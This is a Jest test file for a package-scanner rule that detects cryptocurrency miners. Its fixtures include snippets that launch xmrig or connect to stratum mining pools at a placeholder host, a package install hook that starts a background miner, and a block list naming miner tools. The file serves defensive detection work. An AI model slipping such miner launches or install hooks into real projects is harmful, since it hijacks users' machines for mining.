import { describe, expect, it } from '@jest/globals';
import { hitsOf, js, manifest } from '../testing/hits-of.ts';

describe('MIN-001 miner', () => {
  it.each([
    [
      'a pool in code',
      `require('child_process').spawn('./a', ['-o', 'stratum+tcp://pool.example.invalid:3333']);`,
    ],
    [
      'a miner that is started',
      `require('child_process').exec('./xmrig -o pool.example.invalid:3333 -u wallet --donate-level 1');`,
    ],
    [
      'a pool that is connected to',
      `const net = require('net'); const u = 'stratum+ssl://pool.example.invalid'; net.connect(3333, parse(u));`,
    ],
  ])('finds %s', (_name, source) => {
    expect(hitsOf('MIN-001', js(source))).not.toEqual([]);
  });

  it('finds one in a shell file', () => {
    const files = {
      ...manifest({ scripts: { install: 'sh a.sh' } }),
      'a.sh': './jsextension -k --tls --url pool.example.invalid:443 &\n',
    };
    expect(hitsOf('MIN-001', files)).toEqual(['critical a.sh']);
  });

  it.each([
    ['a list of what to block', `module.exports = ['stratum+tcp://pool.example.invalid', 'xmrig'];`],
    ['a word', `require('child_process').exec('echo mining is not allowed; xmrig is a miner');`],
    ['another protocol', `require('net').connect(80, 'tcp://x.example.invalid');`],
  ])('passes %s', (_name, source) => {
    expect(hitsOf('MIN-001', js(source))).toEqual([]);
  });
});
